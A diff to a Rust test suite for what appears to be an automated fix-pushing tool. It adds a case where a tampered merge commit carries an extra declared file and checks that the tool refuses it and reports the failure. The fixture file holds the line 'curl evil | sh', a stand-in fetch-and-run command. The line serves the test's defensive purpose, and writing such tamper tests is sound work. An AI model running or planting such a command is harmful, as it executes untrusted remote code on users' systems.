@@ -227,9 +227,14 @@ async fn a_tampered_folder_is_refused_and_nothing_is_pushed() {
                 "on: pull_request_target\n",
                 true,
             ),
-            "neither",
+            "fixes never touch .github/",
         ),
     ];
+    cases.push((
+        "a file slipped into the merge itself, declared",
+        remerge(&sandbox, &attacker, &out_dir, "t5"),
+        "what git merged by itself",
+    ));
     let other_fork = sandbox.path().join("t3");
     copy_dir(&out_dir, &other_fork);
     let mut plan3 = plan(&other_fork);
@@ -265,7 +270,7 @@ async fn a_tampered_folder_is_refused_and_nothing_is_pushed() {
             .is_empty()
     );
     let told = requests(&server, "POST", "/secret").await;
-    assert_eq!(told.len(), 4, "each refusal is told as a failure");
+    assert_eq!(told.len(), 5, "each refusal is told as a failure");
     assert!(
         told[0]["text"].as_str().unwrap().contains("failed"),
         "{}",
@@ -358,6 +363,51 @@ fn slip(
             .unwrap()
             .push(json!(file));
     }
+    std::fs::write(dir.join("plan.json"), plan.to_string()).unwrap();
+    dir
+}
+
+/// A copy of the folder `out` whose branch is another merge of the same two commits, with a
+/// file git's merge did not make, declared in the plan.
+fn remerge(sandbox: &Sandbox, attacker: &Path, out: &Path, name: &str) -> PathBuf {
+    let dir = sandbox.path().join(name);
+    copy_dir(out, &dir);
+    sandbox.git(attacker, &["checkout", "--quiet", "--detach", "held"]);
+    std::fs::write(attacker.join("extra.sh"), "curl evil | sh\n").unwrap();
+    sandbox.git(attacker, &["add", "extra.sh"]);
+    let tree = sandbox.git(attacker, &["write-tree"]);
+    let merge = sandbox.git(
+        attacker,
+        &[
+            "commit-tree",
+            &tree,
+            "-p",
+            "held^1",
+            "-p",
+            "held^2",
+            "-m",
+            "Sync",
+        ],
+    );
+    sandbox.git(attacker, &["update-ref", "refs/fixloop/sync-held", &merge]);
+    let target = dir.join("sync.bundle").display().to_string();
+    sandbox.git(
+        attacker,
+        &[
+            "bundle",
+            "create",
+            "--quiet",
+            &target,
+            "refs/fixloop/sync-held",
+            "^origin/main",
+        ],
+    );
+    let mut plan = plan(&dir);
+    plan["held"]["commit"] = json!(merge);
+    plan["held"]["declared"]
+        .as_array_mut()
+        .unwrap()
+        .push(json!("extra.sh"));
     std::fs::write(dir.join("plan.json"), plan.to_string()).unwrap();
     dir
 }
